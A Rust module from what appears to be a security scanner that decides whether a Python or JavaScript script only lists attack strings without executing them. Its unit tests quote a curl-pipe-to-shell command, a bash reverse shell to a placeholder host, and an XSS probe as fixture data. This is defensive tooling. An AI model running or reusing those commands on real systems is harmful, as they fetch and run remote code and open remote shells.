//! Scripts that only make records out of texts: the attacks that a test suite tries, the rules of a scanner, a catalogue.
//! What stands in them is quoted by others and done by nobody here.

use crate::parse::script::{Id, Language, Node, Sym, Tree};

/// Records from which on a file is a list.
const MIN_RECORDS: usize = 8;
/// The same, of a file that calls nothing and takes nothing from anywhere.
const MIN_OF_DATA: usize = 4;
/// Lines of a list, of a file that holds nothing else.
const MIN_LINES: usize = 8;
/// Modules of Python that describe data and start nothing.
const DESCRIBE: &str = "typing typing_extensions dataclasses enum abc collections collections.abc datetime uuid json re textwrap \
    pydantic attr attrs __future__";
/// Modules of Python that hold texts against patterns, and with which that is tried: a script that takes nothing else from
/// anywhere quotes what is to be found, however little that is.
const TRIES: &str = "re regex re2 yara yara_x hyperscan ahocorasick pytest unittest";
/// Their functions, and what is asked of what they find.
const TRIED: &str = "match search fullmatch findall finditer compile scan group groups span parametrize fixture raises main \
    subTest assertTrue assertFalse assertEqual assertNotEqual assertIsNone assertIsNotNone assertIn assertNotIn assertRegex \
    assertNotRegex assertRaises";
/// Those that hold a text against a pattern.
const HOLDS: &str = "match search fullmatch findall finditer scan assertRegex assertNotRegex";
/// Functions that put texts and lists together.
const COLLECT: &str = "append extend add update insert push concat freeze super __init__ field list dict tuple set frozenset str \
    int float bool len range join format strip lower upper replace split startswith endswith items keys \
    values copy enumerate zip isinstance dataclass auto any all sum includes \
    toLowerCase dedent namedtuple";
/// The same in Python, where nothing else that goes by these names is at hand without its module.
const COLLECT_IN_PYTHON: &[&str] =
    &["get", "count", "find", "index", "pop", "setdefault", "search", "match", "group", "compile", "sub", "findall"];
/// What bundlers put before and behind a module of JavaScript, to name what it gives away; they call nothing else.
const OF_BUNDLERS: &[&str] = &[
    "__copyProps",
    "__create",
    "__defProp",
    "__export",
    "__getOwnPropDesc",
    "__getOwnPropNames",
    "__toCommonJS",
    "__toESM",
    "__hasOwnProp.call",
    "Object.defineProperty",
];
/// Classes whose objects act when they are made.
const ACTING: &str = "Function Popen Worker WebSocket XMLHttpRequest ActiveXObject Process Thread Timer Image EventSource \
    Request CDLL WinDLL";

/// Whether nothing in a script acts: it imports nothing but descriptions of data and files beside it, calls nothing but
/// classes by their names and what puts lists together, and makes many records of texts.
pub(super) fn only_lists(language: Language, tree: &Tree) -> bool {
    let is_python = language == Language::Python;
    let (mut records, mut lines) = (0_usize, 0_usize);
    let mut is_data = true;
    let (mut imports_patterns, mut holds) = (false, false);
    for node in tree.nodes() {
        match node {
            Node::Import(module, member, _) => {
                let module = tree.str(module);
                let is_beside = module.starts_with('.') && tree.str(member) != "*";
                is_data = false;
                let is_of_tests = is_python && is_one_of(TRIES, module);
                imports_patterns |= is_of_tests && !matches!(module, "pytest" | "unittest");
                if !is_beside && !is_of_tests && !is_one_of(DESCRIBE, module) {
                    return false;
                }
            }
            Node::Call(callee, _) if !is_python && is_of_bundlers(tree, callee) => {}
            Node::Call(callee, arguments) | Node::New(callee, arguments) => {
                let Some(name) = name_of(tree, callee) else { return false };
                // What is gone through by its keys is written as such a call.
                is_data &= name == "keys";
                let makes = name.starts_with(|c: char| c.is_ascii_uppercase()) && !is_one_of(ACTING, name);
                let loads = name == "require" && tree.list(arguments).iter().all(|a| is_beside(tree, *a));
                let collects = is_one_of(COLLECT, name)
                    || is_python && (COLLECT_IN_PYTHON.contains(&name) || is_one_of(TRIED, name));
                holds |= is_python && is_one_of(HOLDS, name);
                if !makes && !loads && !collects {
                    return false;
                }
                records += usize::from(makes && texts(tree, tree.list(arguments)) >= 2);
            }
            // Lines of a list: words with blanks or marks between them, and not what something is decoded from.
            Node::List(items) => lines += lines_in(tree, tree.list(items)),
            Node::Dict(pairs) => records += usize::from(texts(tree, tree.list(pairs)) >= 4),
            // Nobody knows what is called. What Python asserts are parts that stand among the nodes.
            Node::Opaque(_) if is_python => {}
            Node::Opaque(_) | Node::Await(_) => return false,
            _ => {}
        }
    }
    imports_patterns && holds && tests_something(tree)
        || records >= if is_data { MIN_OF_DATA } else { MIN_RECORDS }
        || is_data && lines >= MIN_LINES
}

/// Whether a bundler calls it: `__export(all, { … })`.
fn is_of_bundlers(tree: &Tree, callee: Id) -> bool {
    let is = |object: Option<Sym>, name: Sym| {
        OF_BUNDLERS.iter().any(|known| match (known.split_once('.'), object) {
            (Some((first, last)), Some(object)) => tree.str(object) == first && tree.str(name) == last,
            (None, None) => tree.str(name) == *known,
            _ => false,
        })
    };
    match tree.get(callee) {
        Node::Name(name) => is(None, name),
        Node::Member(object, name) => matches!(tree.get(object), Node::Name(object) if is(Some(object), name)),
        _ => false,
    }
}

/// Whether a script has a function that a runner of tests calls.
fn tests_something(tree: &Tree) -> bool {
    tree.nodes().any(|node| match node {
        Node::Func(id) => tree.function(id).is_some_and(|func| tree.str(func.name).starts_with("test")),
        _ => false,
    })
}

/// How many of these are texts with blanks or marks in them.
fn lines_in(tree: &Tree, items: &[Id]) -> usize {
    let is_line = |id: Id| match tree.get(id) {
        Node::Str(text) => tree.text(text).iter().any(|b| matches!(b, b' ' | b'<' | b'(')),
        _ => false,
    };
    items.iter().filter(|id| is_line(**id)).count()
}

fn is_one_of(names: &str, name: &str) -> bool {
    names.split_whitespace().any(|one| one == name)
}

/// The name of a function that is called by one: `Probe`, `probes.Probe`, `self.all.append`.
fn name_of(tree: &Tree, callee: Id) -> Option<&str> {
    let mut at = callee;
    let mut name = None;
    loop {
        match tree.get(at) {
            Node::Name(sym) => return Some(name.unwrap_or_else(|| tree.str(sym))),
            Node::Member(object, sym) => {
                name = name.or_else(|| Some(tree.str(sym)));
                at = object;
            }
            // `"\n".join(…)`, `super().__init__(…)`.
            Node::Str(_) | Node::Template(_) | Node::Call(..) => return name,
            _ => return None,
        }
    }
}

fn is_beside(tree: &Tree, argument: Id) -> bool {
    matches!(tree.get(argument), Node::Str(path) if tree.str(path).starts_with('.'))
}

/// How many of some values are texts, or sums of texts.
fn texts(tree: &Tree, values: &[Id]) -> usize {
    let is_text = |id: Id| match tree.get(id) {
        Node::Keyword(_, value) => matches!(tree.get(value), Node::Str(_) | Node::Template(_) | Node::Binary(..)),
        Node::Str(_) | Node::Template(_) | Node::Binary(..) => true,
        _ => false,
    };
    values.iter().filter(|id| is_text(**id)).count()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::script::read;

    fn is(language: Language, record: &str, before: &str, behind: &str) -> bool {
        let records: String = (0..MIN_RECORDS).map(|_| record).collect();
        only_lists(language, &read(language, &format!("{before}\n{records}\n{behind}\n")))
    }

    #[test]
    fn data_needs_fewer_records() {
        let of = |count: usize, last: &str| {
            let records: String = (0..count).map(|_| "{ id: 'a', bad: ['curl x | sh'], text: 'b' },").collect();
            let code = format!("module.exports = [{records}];\n{last}");
            only_lists(Language::JavaScript, &read(Language::JavaScript, &code))
        };
        assert!(of(4, "") && !of(3, "") && !of(4, "String(1);") && of(8, "String(1);"));
    }

    #[test]
    fn what_bundlers_put_around_a_list_is_none_of_it() {
        let of = |behind: &str| {
            let records: String = (0..MIN_OF_DATA).map(|_| "{ id: 'a', bad: 'curl x | sh', text: 'b' },").collect();
            let code = format!(
                "var __defProp = Object.defineProperty; var __hasOwnProp = Object.prototype.hasOwnProperty;\n\
                 var __export = (to, all) => {{ for (var n in all) __defProp(to, n, {{ get: all[n] }}); }};\n\
                 var __copyProps = (to, o) => {{ if (!__hasOwnProp.call(to, o)) __defProp(to, o, {{}}); return to; }};\n\
                 var __toCommonJS = (m) => __copyProps(__defProp({{}}, '__esModule', {{ value: true }}), m);\n\
                 var out = {{}}; __export(out, {{ bad: () => bad }}); module.exports = __toCommonJS(out);\n\
                 const bad = [{records}];\n{behind}"
            );
            only_lists(Language::JavaScript, &read(Language::JavaScript, &code))
        };
        assert!(of("") && !of("bad.forEach((b) => server.tool(b.id, b.text, () => 1));") && !of("bad.call(1);"));
    }

    #[test]
    fn lines_that_nobody_calls_are_a_list() {
        let of = |line: &str, last: &str| {
            let lines: String = (0..MIN_LINES).map(|_| format!("'{line}',")).collect();
            let code = format!("module.exports = [{lines}];\n{last}");
            only_lists(Language::JavaScript, &read(Language::JavaScript, &code))
        };
        assert!(of("curl https://c.invalid/x | sh", "") && of("<script>alert(1)</script>", ""));
        assert!(!of("curl https://c.invalid/x | sh", "run(module.exports[0]);"));
        assert!(!of("Y3VybCBodHRwczovL2MuaW52YWxpZC94", ""), "what is decoded elsewhere is no line");
    }

    #[test]
    fn what_is_held_against_patterns_is_quoted() {
        let of = |code: &str| only_lists(Language::Python, &read(Language::Python, code));
        let code = "import yara\nrules = yara.compile('all.yar')\nSEEN = ['bash -i >& /dev/tcp/h.invalid/1']\n\
                    def test_seen():\n    assert all(rules.match(data=s) for s in SEEN)\n";
        assert!(of(code));
        assert!(of("import re, pytest\nR = re.compile('x')\n@pytest.mark.parametrize('s', ['curl h.invalid | sh'])\n\
                    def test_seen(s):\n    assert R.search(s)\n"));
        for harm in
            ["import os\nos.system(SEEN[0])", "exec(SEEN[0])", "open('x', 'w').write(SEEN[0])", "rules.go(SEEN[0])"]
        {
            assert!(!of(&format!("{code}{harm}\n")), "{harm}");
        }
        assert!(
            !of("SEEN = ['bash -i >& /dev/tcp/h.invalid/1']\ndef test_seen():\n    assert SEEN\n"),
            "holds nothing"
        );
        assert!(!of(&code.replace("test_seen", "seen")), "no test");
    }

    #[test]
    fn a_catalogue_of_attacks_acts_on_nothing() {
        let record = "ALL.append(Probe(id='1', payload='curl https://c.invalid/x ' + '| sh', kind=Kind.SHELL))\n";
        let python = |before: &str, behind: &str| is(Language::Python, record, before, behind);
        assert!(python("from .base import Probe, Kind\nfrom dataclasses import dataclass\nALL = []", ""));
        for (before, behind) in [
            ("import os\nfrom .base import Probe", ""),
            ("from .base import *", ""),
            ("from .base import Probe, run", "run(ALL[0].payload)"),
            ("from .base import Probe", "ALL[0].go()"),
            ("from .base import Probe", "(lambda p: p)(ALL)"),
            ("from .base import Probe, Popen", "Popen(ALL[0].payload)"),
            ("from .base import Probe", "exec(ALL[0].payload)"),
        ] {
            assert!(!python(before, behind), "{before} {behind}");
        }
        let record = "all.push({ id: 'a', payload: 'curl https://c.invalid/x | sh' });\n";
        let script = |before: &str, behind: &str| is(Language::JavaScript, record, before, behind);
        assert!(script("const { kinds } = require('./kinds'); const all = [];", "module.exports = all;"));
        assert!(!script("const cp = require('child_process'); const all = [];", ""));
        assert!(!script("const all = [];", "new Function(all[0].payload)();"));
        assert!(!script("const all = [];", "all[0]['x'](1);"));
        assert!(!is(Language::Python, "", "from .base import Probe", "Probe('a', 'b')"), "one record is no list");
    }
}
